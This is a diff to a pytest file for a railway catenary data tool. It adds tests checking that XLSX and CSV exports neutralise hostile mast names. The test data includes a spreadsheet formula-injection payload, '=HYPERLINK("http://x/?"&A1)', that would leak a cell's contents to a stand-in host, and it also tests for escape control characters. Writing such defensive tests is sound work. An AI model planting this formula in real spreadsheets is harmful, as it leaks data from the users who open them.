@@ -18,7 +18,7 @@ from sqlalchemy.orm import Session
 from catenary.storage.database import make_engine
 from catenary.storage.models import Alert, Line, Mast, SpanMeasurement, Track, Vehicle
 
-from ..conftest import Build, SmallRun
+from ..conftest import Build, SmallRun, read_sheet
 from .conftest import assert_succeeded, catenary
 
 HOSTILE_MASTS = (
@@ -130,6 +130,33 @@ def test_csv_outputs_are_safe(name: str, database: str, tmp_path: Path) -> None:
     _check_csv(out)
     text = out.read_text(encoding="utf-8")
     assert "'=HYPERLINK" in text and "\\x1b" in text  # the names are there, made safe
+
+
+@pytest.mark.parametrize("name", sorted(CSV_OUTPUTS))
+def test_xlsx_outputs_keep_hostile_names_as_text(name: str, database: str, tmp_path: Path) -> None:
+    out = tmp_path / "out.xlsx"
+    assert_succeeded(catenary("--db", database, *CSV_OUTPUTS[name], "-o", out))
+    header, *rows = read_sheet(out)  # no formula cell anywhere
+    assert rows, name
+    cells = [cell for row in rows for cell in row]
+    assert '=HYPERLINK("http://x/?"&A1)' in cells  # as typed text, never evaluated
+    assert not any(isinstance(c, str) and CONTROL.search(c) for c in cells)
+    for row in rows:
+        for column, cell in zip(header, row, strict=False):
+            if column.endswith(("_mm", "_m")) and isinstance(cell, float):
+                assert cell == round(cell, 3), (name, column, cell)
+
+
+@pytest.mark.parametrize("name", sorted(CSV_OUTPUTS))
+def test_csv_to_standard_output_is_the_csv_file(
+    name: str, database: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "out.csv"
+    assert_succeeded(catenary("--db", database, *CSV_OUTPUTS[name], "-o", out))
+    printed = catenary("--db", database, *CSV_OUTPUTS[name], "-o", "-")
+    assert_succeeded(printed)
+    assert printed.stdout == out.read_text(encoding="utf-8")
+    assert "written to standard output" in printed.stderr
 
 
 @pytest.mark.parametrize("report", ["run", "maintenance"])
